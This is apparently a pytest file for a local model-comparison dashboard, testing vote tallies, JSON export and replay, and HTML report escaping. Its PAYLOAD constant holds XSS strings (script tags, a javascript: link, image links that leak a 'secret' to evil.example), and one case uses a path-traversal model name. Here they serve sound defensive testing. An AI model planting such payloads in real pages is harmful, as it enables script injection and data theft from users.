"""Comparison sessions: votes and tally, JSON round trip into a re-run, and the offline HTML report."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator

import pytest

from services.config import Backend
from services.errors import InvalidInput
from services.ollama.client import OllamaClient
from services.stage.compare import ComparisonRun, run_to_end
from services.stage.decks import DeckPrompt
from services.stage.lineup import Contestant, RoundSpec
from services.stage.report import CompareSession, Source, parse_report, render_html
from tests.standin import StandinServer

PAYLOAD = ('<script>alert("x")</script> <img src="https://evil.example/pixel.png"> '
           '![leak](https://evil.example/?q=secret) <a href="javascript:alert(1)">clic</a> </div></body>')


@pytest.fixture
def client_for(backend: Backend) -> Iterator[OllamaClient]:
    client = OllamaClient(backend, connect_timeout_s=2.0, load_timeout_s=30.0, stall_timeout_s=5.0)
    yield lambda _backend: client  # type: ignore[misc]
    client.close()


def run_round(session: CompareSession, spec: RoundSpec, backend: Backend, client_for, source: Source | None = None):
    record = session.add_round(spec, source)
    record.update(run_to_end(ComparisonRun(spec, session.contestants([backend]), client_for,
                                           record_metrics=False)))
    return record


def lineup(backend: Backend) -> list[Contestant]:
    return [Contestant("A", "llama3.2:1b", backend), Contestant("B", "qwen3:0.6b", backend),
            Contestant("C", "phi3:mini", backend)]


def test_votes_and_tally(backend: Backend) -> None:
    session = CompareSession.for_contestants(lineup(backend), blind=True)
    for _ in range(3):
        session.add_round(RoundSpec(prompt="x"))
    session.vote(1, "B")
    session.vote(2, "B")
    session.vote(3, "tie")
    session.vote(1, "C")  # a changed mind replaces the first vote
    assert session.tally() == {"A": 0, "B": 1, "C": 1}
    assert session.tally_by_model() == {"Model A": 0, "Model B": 1, "Model C": 1}
    session.revealed = True
    assert session.tally_by_model() == {"llama3.2:1b": 0, "qwen3:0.6b": 1, "phi3:mini": 1}
    with pytest.raises(InvalidInput):
        session.vote(1, "D")
    with pytest.raises(InvalidInput):
        session.vote(9, "A")


def test_json_round_trip_re_runs_the_same_requests(standin: StandinServer, backend: Backend, client_for) -> None:
    standin.state.configure(tokens_per_second=400, reply_tokens=12)
    session = CompareSession.for_contestants(lineup(backend), blind=True)
    spec = RoundSpec(prompt="Décris une robe.", system="Sois bref.", options={"temperature": 0.1, "top_k": 10},
                     seed=99, warm_up=True)
    first = run_round(session, spec, backend, client_for,
                      Source("product-tasks", "1", "description-robe", "Description"))
    session.vote(1, "A")
    exported = session.to_json()
    document = json.loads(exported)
    column = document["rounds"][0]["columns"][0]
    for key in ("model", "digest", "backend", "ollama_version", "first_token_s", "stats", "warmup_s"):
        assert column[key] not in (None, ""), key
    assert document["rounds"][0]["template_version"] == "product-tasks@v1#description-robe"
    assert document["rounds"][0]["options"] == {"temperature": 0.1, "top_k": 10} and document["rounds"][0]["seed"] == 99
    assert document["tally"] == {"llama3.2:1b": 1, "qwen3:0.6b": 0, "phi3:mini": 0}

    loaded = parse_report(exported)
    assert loaded.lineup == session.lineup and loaded.rounds[0].vote == "A" and loaded.blind
    deck = loaded.replay_deck()
    assert deck.prompts == (DeckPrompt(id="round-1", title="Description", prompt="Décris une robe.",
                                       system="Sois bref.", options={"temperature": 0.1, "top_k": 10}, seed=99),)
    before = len(standin.state.requests_to("/api/chat"))
    replay = CompareSession(lineup=loaded.lineup, blind=loaded.blind, replay_of=loaded.id)
    second = run_round(replay, loaded.rounds[0].spec(), backend, client_for)
    requests = standin.state.requests_to("/api/chat")[before:]
    assert len(requests) == 3
    for request in requests:
        assert request["body"]["options"] == {"temperature": 0.1, "top_k": 10, "seed": 99}
        assert request["body"]["messages"] == [{"role": "system", "content": "Sois bref."},
                                               {"role": "user", "content": "Décris une robe."}]
    assert [c["content"] for c in second.columns] == [c["content"] for c in first.columns]
    assert [c["digest"] for c in second.columns] == [c["digest"] for c in first.columns]


@pytest.mark.parametrize(("text", "message"), [
    ("nope", "not valid JSON"),
    ('{"format": "x"}', "not a comparison report"),
    ('{"format": "ollama-dashboard-comparison/1", "lineup": [{"model": "a", "backend": "b"}], "rounds": []}',
     "2 to 4"),
    ('{"format": "ollama-dashboard-comparison/1", "lineup": [{"model": "a", "backend": "b"}, '
     '{"model": "../x", "backend": "b"}], "rounds": []}', "not a valid model name"),
    ('{"format": "ollama-dashboard-comparison/1", "lineup": [{"model": "a", "backend": "b"}, '
     '{"model": "c", "backend": "b"}], "rounds": [{"prompt": "x", "options": {"top_k": 0}}]}', "top_k"),
])
def test_bad_reports_are_refused(text: str, message: str) -> None:
    with pytest.raises(InvalidInput, match=message):
        parse_report(text)


def test_a_report_naming_an_unknown_backend_says_so(backend: Backend) -> None:
    session = parse_report(CompareSession.for_contestants(lineup(backend), blind=False).to_json())
    with pytest.raises(InvalidInput, match=r"'standin' .* not configured here"):
        session.contestants([Backend(name="other", kind="ollama", url="http://127.0.0.1:1")])
    with pytest.raises(InvalidInput, match="no rounds"):
        session.replay_deck()


def test_the_html_report_escapes_model_output_and_loads_nothing(
        standin: StandinServer, backend: Backend, client_for) -> None:
    standin.state.configure(tokens_per_second=2000)
    standin.state.responder = lambda body: PAYLOAD
    session = CompareSession.for_contestants(lineup(backend), blind=False)
    run_round(session, RoundSpec(prompt="<b>prompt</b> & co", system="</style><script>x</script>"), backend,
              client_for)
    session.vote(1, "B")
    page = render_html(session)
    assert page.count(PAYLOAD) == 0
    assert page.count("&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;") == 3
    assert "&lt;b&gt;prompt&lt;/b&gt; &amp; co" in page
    lowered = page.lower()
    assert "<script" not in lowered and "<img" not in lowered and "<a " not in lowered and "<link" not in lowered
    csp = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', page)
    assert csp and "default-src 'none'" in csp.group(1) and "script-src 'none'" in csp.group(1)
    # Outside the escaped model text (where it is inert text), no attribute or address that could load anything.
    rest = page.replace(html_escaped(PAYLOAD), "").lower()
    assert not re.search(r"\b(src|href|action|srcset|formaction)\s*=", rest)
    assert "url(" not in rest and "@import" not in rest and not re.search(r"https?:|//", rest)
    assert page.count("audience pick") >= 1 and "qwen3:0.6b" in page


def html_escaped(text: str) -> str:
    import html

    return html.escape(text, quote=True)


def test_blind_rounds_keep_their_own_letters_through_the_json(backend: Backend) -> None:
    session = CompareSession.for_contestants(lineup(backend), blind=True)
    for _ in range(12):
        session.add_round(RoundSpec(prompt="x"))
    orders = {tuple(r.order) for r in session.rounds}
    assert len(orders) > 1 and all(sorted(o) == ["A", "B", "C"] for o in orders)
    record = session.rounds[0]
    first = record.order[0]
    assert session.letter(first, record) == "A" and session.slot_for_letter("A", record) == first
    assert session.display_name(first, record) == "Model A"
    session.vote(1, session.slot_for_letter("B", record))
    assert session.leaders() == [record.order[1]]
    loaded = parse_report(session.to_json())
    assert [r.order for r in loaded.rounds] == [r.order for r in session.rounds]
    with pytest.raises(InvalidInput):
        session.slot_for_letter("D", record)
    plain = CompareSession.for_contestants(lineup(backend), blind=False)
    assert plain.add_round(RoundSpec(prompt="x")).order == ["A", "B", "C"]  # not blind: the lineup's order
